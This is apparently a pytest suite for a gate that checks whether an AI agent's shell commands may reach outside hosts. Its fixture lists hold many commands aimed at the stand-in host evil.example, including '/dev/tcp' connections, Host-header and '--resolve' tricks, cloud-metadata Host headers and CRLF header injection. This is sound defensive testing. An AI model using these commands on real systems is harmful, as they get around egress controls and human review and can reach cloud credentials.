"""Whom a command speaks to: an agent reaches what is near and its subject, and nobody else."""

from __future__ import annotations

import pytest

from operator_protocols.domain.action import Action
from operator_protocols.domain.entry import Actor
from operator_protocols.domain.permit import Permit
from operator_protocols.domain.verdict import Level, Mode, Verdict
from operator_sre.gate import PERSON, Policy, judge, safer
from tests.every import every
from tests.gate.office import Office
from tests.gate.policy.writing import book

POLICY = Policy(mode=Mode.EXECUTE, hosts=frozenset({"shop.example.com"}))
ADA, PLANNER = Actor("ada", PERSON, "ada@host:1"), Actor("planner", "agent", "planner")
OPEN = "curl -s https://example.org/"
# Only a host outside stands between these and SAFE, which is what people get.
OUTSIDE = [
    "curl -s 'https://evil.example/?state=seen'",
    "curl -sI http://203.0.113.9/",
    "curl -s -A seen http://evil.example/",
    "curl -s -H 'Accept: seen' http://evil.example/",
    "curl -s http://127.0.0.1/ http://evil.example/",
    "curl -s --resolve evil.example:80:127.0.0.1 http://evil.example/",
    "curl -s --resolve localhost:80:203.0.113.9 http://localhost/",
    "curl -s --resolve seen.evil.example:80:127.0.0.1 http://127.0.0.1/",
    "curl -s --resolve +seen.evil.example:80:10.0.0.1 http://127.0.0.1/",
    "curl -s --resolve localhost:80:10.0.0.1,203.0.113.9 http://localhost/",
    "curl -s -H 'Host: seen.evil.example' http://127.0.0.1:3128/",
    "curl -s -H 'host:evil.example:80' http://127.0.0.1:3128/",
    "curl -s -H'HOST:  203.0.113.9' http://10.0.0.5/",
    "curl -s --header 'Host: evil.example' http://localhost/",
    "curl -s --header='Host: evil.example' -H 'Accept: text/html' http://localhost/",
    "curl -s -H 'Host: shop.example.com' -H 'Host: evil.example' http://localhost/",
    "openssl s_client -connect 127.0.0.1:443 -servername seen.evil.example < /dev/null",
    "redis-cli --tls --sni seen.evil.example -h 127.0.0.1 ping",
    "curl -s --interface seen.evil.example http://127.0.0.1/",
    "curl -sL http://127.0.0.1/",
    "curl -s --location http://shop.example.com/",
    "curl -s 'http://127.0.0.1:9115/probe?target=http://evil.example/seen'",
    "curl -s 'http://127.0.0.1:9115/probe?module=x&target=seen.evil.example:443'",
    "curl -s 'http://127.0.0.1:9115/probe?target=http%253A%252F%252Fevil.example%252Fseen'",
    "curl -s http://localhost:3128/http://evil.example/seen",
    "curl -s http://localhost:3128/http:/evil.example/seen",
    "curl -s 'http://127.0.0.1:2375/images/search?term=seen'",
    "curl -s 'http://127.0.0.1:53/resolve?name=seen.evil.example'",
    "wget -qO- http://127.0.0.1/",
    "wget --spider http://evil.example/",
    "http -I --follow GET http://127.0.0.1/",
    "dig +short seen.evil.example",
    "dig @127.0.0.1 seen.evil.example TXT",
    "dig @203.0.113.9 localhost",
    "dig -q seen.evil.example",
    "dig -x 8.8.8.8",
    "dig +domain=seen.evil.example localhost",
    "dig +do=seen.evil.example localhost",
    "nslookup seen.evil.example",
    "nslookup -domain=seen.evil.example localhost",
    "nslookup localhost 203.0.113.9",
    "host seen.evil.example",
    "drill seen.evil.example",
    "delv seen.evil.example",
    "getent hosts seen.evil.example",
    "getent ahosts seen.evil.example",
    "resolvectl query seen.evil.example",
    "resolvectl service seen.evil.example",
    "resolvectl openpgp seen@evil.example",
    "whois seen.evil.example",
    "ping -c 1 seen.evil.example",
    "ping -c 1 -S seen.evil.example 127.0.0.1",
    "fping seen.evil.example",
    "mtr -r seen.evil.example",
    "mtr -r -a seen.evil.example 127.0.0.1",
    "traceroute seen.evil.example",
    "traceroute -s seen.evil.example 127.0.0.1",
    "tracepath seen.evil.example",
    "nc -z evil.example 443",
    "nc -z -s seen.evil.example 127.0.0.1 443",
    "openssl s_client -connect evil.example:443 < /dev/null",
    "openssl x509 -noout -in http://evil.example/seen",
    "openssl crl -noout -in https://evil.example/seen",
    "openssl verify http://evil.example/seen",
    "openssl verify http://127.0.0.1/leads/elsewhere",
    "ss -tn dst seen.evil.example",
    "ss -tn dst 48656c6c6f.bad.cc",
    "ss dst 1.beef.de",
    "ss -tn src 1.cafe.ee:80",
    "ss -tn dst 1.beef.de/24",
    "ss -tn 'dst [1.beef.de]'",
    "ss -tn '( dst [1.beef.de]:80 or sport = :443 )'",
    "ss -tn '( dst seen.evil.example or src 10.0.0.1 )'",
    "lsof -i@seen.evil.example:80",
    "lsof -iTCP@seen.evil.example",
    "lsof -i @seen.evil.example",
    "lsof -i evil.example",
    "lsof -n -P -i tcp@seen.evil.example",
    "lsof -nPi 4UDP@seen.evil.example:53",
    "getent networks seen.evil.example",
    "ls /net/evil.example",
    "du -sh /n?t/evil.example",
    "find /afs/evil.example -maxdepth 0",
    "cd / && cat net/evil.example/seen",
    "cd /net/evil.example",
    "wc -l < /net/evil.example/seen",
    "fuser 80,seen.evil.example,80/tcp",
    "arp seen.evil.example",
    "psql -h evil.example -c 'select 1'",
    "mysql --host=evil.example -e 'select 1'",
    "redis-cli -h evil.example ping",
    "etcdctl --endpoints=https://evil.example:2379 endpoint status",
    "kafka-topics --bootstrap-server evil.example:9092 --list",
    "rabbitmqctl -n rabbit@evil.example status",
    "docker manifest inspect evil.example/seen",
    "docker manifest inspect seen",
    "docker buildx imagetools inspect evil.example/seen",
    "docker search seen",
    "podman search seen",
    "skopeo inspect docker://evil.example/seen",
    "crane digest evil.example:5000/seen",
    "helm search hub seen",
    "aws s3 ls s3://seen",
    "curl -s http://127.0.0.1/ && aws s3 ls s3://seen",
    "gsutil ls gs://seen",
    "gcloud compute instances list",
    "gh repo view evil/seen",
    "npm view seen",
    "pip index versions seen",
    "pip list --outdated",
    "pip list -o",
    "gem outdated",
    "brew info seen",
    "brew deps seen",
    "snap find seen",
    "true && ping -c1 seen.evil.example",
    "timeout 5 dig seen.evil.example",
    "xargs -n1 true < /dev/null; host seen.evil.example",
]
# Nobody knows where these go, so that nobody gets them without a person.
HIDDEN = [
    "curl -s http://$HOST/seen",
    "curl -s http://$(cat /tmp/where)/seen",
    "H=evil.example; curl -s http://$H/",
    "dig $(hostname).evil.example",
    "ping -c 1 $X",
    "echo evil.example | xargs ping -c 1",
    "cat hosts | xargs -n 1 dig",
    "cat < /dev/tcp/evil.example/80",
    "echo seen > /dev/udp/127.0.0.1/53",
    "git ls-remote https://evil.example/seen",
    "ssh evil.example uptime",
    "openssl s_client -proxy evil.example:80 -connect 127.0.0.1:443",
    "curl -s -x evil.example http://127.0.0.1/",
    "openssl x509 -noout -in pkcs11:object=seen",
    "openssl verify FILE:seen",
    "lsof -i @$HOST",
    "dnf list http://evil.example/seen.rpm",
    "yum deplist https://evil.example/seen.rpm",
    "dnf repoquery http://evil.example/seen.rpm",
    "apk add -s http://evil.example/seen.apk",
    "flatpak remote-ls https://evil.example/",
    "ping -c 1 localhost:seen",
    "dig localhost/24",
    "dig @localhost:seen localhost",
    "getent hosts localhost:seen",
    "curl -s --doh-url https://evil.example http://localhost/",
    "curl -s --connect-to localhost:80:evil.example:80 http://localhost/",
    "curl -s --connect-to evil.example:80:127.0.0.1:80 http://evil.example/",
    "curl -s --proxy http://127.0.0.1:3128 http://evil.example/",
    "curl -s --request-target http://evil.example/ http://127.0.0.1:3128/",
    "curl -s -H 'Host: 169.254.169.254' http://127.0.0.1:3128/",
    "curl -s -H 'Host: metadata.google.internal' http://127.0.0.1:3128/",
    'curl -s -H "Host: $(cat /tmp/where)" http://127.0.0.1:3128/',
    "curl -s -H 'X-Forwarded-Host: evil.example' http://127.0.0.1:3128/",
    "curl -s -H 'Host: a@evil.example' http://127.0.0.1:3128/",
    "curl -s -H $'Accept: a\\r\\nHost: evil.example' http://127.0.0.1:3128/",
    "wget -qO- --header='Host: $WHERE' http://127.0.0.1/",
]
NEAR = [
    "curl -s http://127.0.0.1:8080/healthz?full=1",
    "curl -s 'http://127.0.0.1:9115/probe?target=http://10.1.2.3/healthz&module=http_2xx'",
    "curl -s 'http://127.0.0.1:9115/probe?target=shop.example.com:443'",
    "curl -s 'http://127.0.0.1:9090/api/v1/query?query=up{host=\"web1\"}'",
    "curl -s 'http://127.0.0.1:9200/logs/_search?q=host:web1&name=index'",
    "curl -s -A probe http://localhost:9200/_cat/nodes?v",
    "curl -s --interface eth0 http://10.1.2.3/metrics",
    "curl -s --interface 10.0.0.7 http://[::1]:80/",
    "curl -s https://shop.example.com:8443/status",
    "curl -s -H 'Host: shop.example.com' http://127.0.0.1:8080/healthz",
    "curl -s -H 'Host: localhost:8080' -H 'Accept: text/html' http://127.0.0.1:8080/",
    "curl -s -H 'Host:' http://127.0.0.1:8080/",
    "curl -s --resolve shop.example.com:443:10.0.0.5 https://shop.example.com/",
    "curl -s --resolve '*:443:10.0.0.5' https://shop.example.com/",
    "http -I GET http://127.0.0.1/",
    "dig +short shop.example.com MX",
    "dig @10.0.0.10 localhost AAAA",
    "getent hosts shop.example.com",
    "ping -c 1 -I eth0 192.168.1.1",
    "nc -z -w 3 10.0.0.5 6379",
    "openssl s_client -connect 127.0.0.1:443 -servername shop.example.com < /dev/null",
    "ss -tn state established '( dport = :5432 or sport = :443 )'",
    "ss -4 --tcp dst 192.0.2.0/24",
    "ss -tlnp src '[::1]:80'",
    "openssl x509 -noout -subject -in ./site:8443.crt",
    "openssl verify -CAfile /etc/ssl/ca.pem site.crt",
    "ss -tn dst 10.0.0.0/8:80",
    "ss -tn dst ::1",
    "ss -tn dport = 443 and dst 203.0.113.5:443",
    "ss -ltn 'src *:80'",
    "lsof -i :443",
    "lsof -i tcp",
    "lsof -i -n -P",
    "lsof -i 6TCP@[::1]:80,443",
    "lsof -i @localhost",
    "getent networks",
    "gem list",
    "brew list",
    "dnf list installed",
    "ls /net",
    "echo /net/evil.example",
    "sysctl net/core/somaxconn",
    "dig @10.0.0.10 -x 10.0.0.7",
    "lsof -nP -iTCP@127.0.0.1:80",
    "fuser 8080/tcp",
    "psql -h 10.0.0.5 -c 'select 1'",
    "redis-cli -h 127.0.0.1 -p 6380 info",
    "rabbitmqctl -n rabbit status",
    "kubectl get pods -A",
    "docker ps",
    "docker image inspect evil.example/seen",
    "docker manifest inspect localhost:5000/app",
    "skopeo inspect docker-daemon:app:1",
    "helm search repo nginx",
    "npm ls --depth=0",
    "pip list",
    "aws --version",
    "gcloud version",
]


def _of(command: str, *, person: bool = False, policy: Policy = POLICY) -> Verdict:
    return judge(Action.shell(command), policy, person=person)


@every("command", OUTSIDE)
def test_an_agent_asks_nobody_outside_by_itself(command: str) -> None:
    verdict = _of(command)
    assert verdict.level is Level.REVIEW
    assert "egress" in [rule.id for rule in verdict.rules]
    assert not POLICY.runs_by_itself(verdict)
    assert _of(command, person=True).level is Level.SAFE


@every("command", HIDDEN)
def test_a_host_that_is_not_known_is_not_safe_for_anybody(command: str) -> None:
    assert _of(command).level is not Level.SAFE
    assert _of(command, person=True).level is not Level.SAFE


@every("command", NEAR)
def test_what_is_near_stays_safe(command: str) -> None:
    assert _of(command).level is Level.SAFE


@every("command", [one for one in OUTSIDE if "follow" not in one and "-L" not in one])
def test_a_policy_that_allows_all_hosts_is_obeyed(command: str) -> None:
    everything = Policy(book=book(egress={"allow": ["*"]}))
    assert _of(command, policy=everything).level is Level.SAFE


def test_a_host_is_told_with_what_to_do_about_it() -> None:
    told = _of(OPEN).explanation
    assert told.startswith("example.org is not an allowed host")
    assert "'egress: allow'" in told
    listed = Policy(book=book(egress={"allow": ["example.org"]}))
    assert _of(OPEN, policy=listed).level is Level.SAFE


def test_what_would_be_safer_is_said_for_whoever_asks() -> None:
    follows = Action.shell("curl -s -L http://127.0.0.1/")
    assert safer(follows, POLICY) == "Without -L this only reads."
    assert safer(follows, POLICY, person=True) == ""
    assert safer(Action.shell("curl -X DELETE http://example.org"), POLICY) == ""


@pytest.mark.asyncio
async def test_the_gate_asks_who_wants_it(office: Office) -> None:
    gate, action = office.gate(), Action.shell(OPEN)
    assert gate.judge(action).level is Level.REVIEW
    assert gate.judge(action, PLANNER).level is Level.REVIEW
    assert gate.judge(action, ADA).level is Level.SAFE
    assert isinstance(await gate.permit(gate.judge(action, ADA), None, ADA), Permit)


@pytest.mark.asyncio
@pytest.mark.parametrize("requester", [PLANNER, None])
async def test_a_verdict_for_a_person_helps_no_agent(
    office: Office, requester: Actor | None
) -> None:
    office.policy = Policy(mode=Mode.OBSERVE)
    gate = office.gate()
    refused = await gate.permit(gate.judge(Action.shell(OPEN), ADA), None, requester)
    assert not isinstance(refused, Permit)
    assert "example.org" in refused.stderr
